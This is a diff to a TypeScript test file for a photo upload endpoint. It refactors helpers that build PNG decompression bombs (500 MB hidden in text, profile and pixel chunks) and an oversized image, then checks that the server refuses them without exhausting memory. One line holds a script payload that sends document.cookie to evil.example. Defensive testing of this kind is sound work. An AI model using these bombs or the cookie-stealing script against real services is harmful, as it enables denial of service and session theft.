@@ -7,6 +7,7 @@ import { afterAll, beforeAll, expect, test } from 'vitest'
 import { startTestApp, type TestApp } from '../../../test/harness/app.ts'
 import type { Person } from '../../../test/harness/people.ts'
 import { plain, upload } from '../../../test/harness/photos.ts'
+import { outcomeOf } from '../../../test/harness/send.ts'
 import { readTables } from '../../../test/harness/tables.ts'
 
 let app: TestApp
@@ -23,8 +24,8 @@ const mega = 1024 * 1024
 /** Uploads with the hourly limits reset. */
 async function tried(bytes: Uint8Array) {
   await app.pool.query("delete from rate_limit where key like 'upload%'")
-  const { status, body } = await upload(app, sana, bytes)
-  return [status, body.code ?? 'kept']
+  const answer = await upload(app, sana, bytes)
+  return [answer.status, outcomeOf(answer)]
 }
 
 function chunk(type: string, data: Buffer): Buffer {
@@ -35,23 +36,42 @@ function chunk(type: string, data: Buffer): Buffer {
   return Buffer.concat([frame.subarray(0, 4), named, frame.subarray(4)])
 }
 
-/** A PNG with this declared size and these chunks after its header. */
-function png(width: number, height: number, ...chunks: Buffer[]): Buffer {
+/** Its bit depth and its colour type. */
+type PixelFormat = [number, number]
+const trueColour: PixelFormat = [8, 2]
+const blackAndWhite: PixelFormat = [1, 0]
+
+/** A PNG with this declared format and size, and these chunks after its header. */
+function pngIn(format: PixelFormat, width: number, height: number, ...chunks: Buffer[]): Buffer {
   const head = Buffer.alloc(13)
   head.writeUInt32BE(width, 0)
   head.writeUInt32BE(height, 4)
-  head.set([8, 2, 0, 0, 0], 8)
+  head.set(format, 8)
   const start = Buffer.from('89504e470d0a1a0a', 'hex')
   return Buffer.concat([start, chunk('IHDR', head), ...chunks, chunk('IEND', Buffer.alloc(0))])
 }
 
-/** 14,000 × 14,000 real pixels in less than a megabyte. */
-const hugePng = () => plain(14_000).png({ compressionLevel: 9 }).toBuffer()
+const png = (width: number, height: number, ...chunks: Buffer[]) =>
+  pngIn(trueColour, width, height, ...chunks)
+
+/** 14,000 × 14,000 real pixels in 24 KB. */
+function hugePng(): Buffer {
+  const bytesOfRow = 1 + 14_000 / 8
+  const pixels = deflateSync(Buffer.alloc(14_000 * bytesOfRow), { level: 9 })
+  return pngIn(blackAndWhite, 14_000, 14_000, chunk('IDAT', pixels))
+}
+
+let packed: Buffer | undefined
+
+/** 500 MB of zeros, compressed once. */
+function packedZeros(): Buffer {
+  packed ??= deflateSync(Buffer.alloc(500 * mega), { level: 9 })
+  return packed
+}
 
 /** PNG text that decompresses to 500 MB. */
 function textBomb(): Buffer {
-  const packed = deflateSync(Buffer.alloc(500 * mega), { level: 9 })
-  const words = Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), packed])
+  const words = Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), packedZeros()])
   return png(10, 10, chunk('zTXt', words), chunk('IDAT', deflateSync(Buffer.alloc(310))))
 }
 
@@ -66,7 +86,7 @@ function profileBomb(): Buffer {
 
 /** A PNG with 500 MB more pixel data than declared. */
 function pixelBomb(): Buffer {
-  return png(10, 10, chunk('IDAT', deflateSync(Buffer.alloc(500 * mega), { level: 9 })))
+  return png(10, 10, chunk('IDAT', packedZeros()))
 }
 
 const script = '<script>fetch("//evil.example/"+document.cookie)</script>'
@@ -105,7 +125,7 @@ test.each(['jpeg', 'png', 'webp', 'avif'] as const)(
   async (format) => {
     const { data } = await noise(300)
     const whole = await sharp(data, noisy(300)).toFormat(format, { effort: 2 }).toBuffer()
-    expect(await tried(whole)).toEqual([200, 'kept'])
+    expect(await tried(whole)).toEqual([200, 'ok'])
     for (const part of [0.1, 0.5, 0.9]) {
       const cut = whole.subarray(0, Math.floor(whole.length * part))
       expect([part, ...(await tried(cut))]).toEqual([part, 415, 'not_a_photo'])
@@ -131,7 +151,7 @@ test('corrupted bytes are accepted or refused, never an internal error', async (
     const bytes = Buffer.from(photo)
     for (const [at, byte] of wounds) bytes[at % bytes.length] = byte
     const [status, code] = await tried(bytes)
-    expect(['kept', 'not_a_photo', 'photo_too_large']).toContain(code)
+    expect(['ok', 'not_a_photo', 'photo_too_large']).toContain(code)
     expect([200, 413, 415]).toContain(status)
   })
   await fc.assert(property, { seed: 20_261_121, numRuns: 150 })
@@ -188,12 +208,12 @@ test('refuses an anonymous caller before reading the body', async () => {
 test('a refused upload leaves nothing behind', async () => {
   const before = (await readTables(app.pool, ['rate_limit'])).size
   await tried(Buffer.from(svg))
-  await tried(await hugePng())
+  await tried(hugePng())
   await tried(await plain(9).gif().toBuffer())
   expect((await readTables(app.pool, ['rate_limit'])).size).toBe(before)
 })
 
-const bombs: [string, () => Promise<Buffer> | Buffer, (string | number)[][]][] = [
+const bombs: [string, () => Buffer, (string | number)[][]][] = [
   ['14,000 × 14,000 pixels', hugePng, [[413, 'photo_too_large']]],
   [
     'a PNG that only says it is larger',
@@ -205,7 +225,7 @@ const bombs: [string, () => Promise<Buffer> | Buffer, (string | number)[][]][] =
     'a text of 500 MB in a PNG',
     textBomb,
     [
-      [200, 'kept'],
+      [200, 'ok'],
       [415, 'not_a_photo'],
     ],
   ],
@@ -213,7 +233,7 @@ const bombs: [string, () => Promise<Buffer> | Buffer, (string | number)[][]][] =
     'a profile of 500 MB in a PNG',
     profileBomb,
     [
-      [200, 'kept'],
+      [200, 'ok'],
       [415, 'not_a_photo'],
     ],
   ],
@@ -221,7 +241,7 @@ const bombs: [string, () => Promise<Buffer> | Buffer, (string | number)[][]][] =
     '500 MB of pixels in a small PNG',
     pixelBomb,
     [
-      [200, 'kept'],
+      [200, 'ok'],
       [415, 'not_a_photo'],
     ],
   ],
@@ -231,7 +251,7 @@ const bombs: [string, () => Promise<Buffer> | Buffer, (string | number)[][]][] =
 const resident = () => process.memoryUsage.rss()
 
 test.each(bombs)('%s, 20 times, does not exhaust memory', async (_, make, expected) => {
-  const bytes = await make()
+  const bytes = make()
   expect(bytes.length).toBeLessThan(10 * mega)
   expect(expected).toContainEqual(await tried(bytes))
   const before = resident()
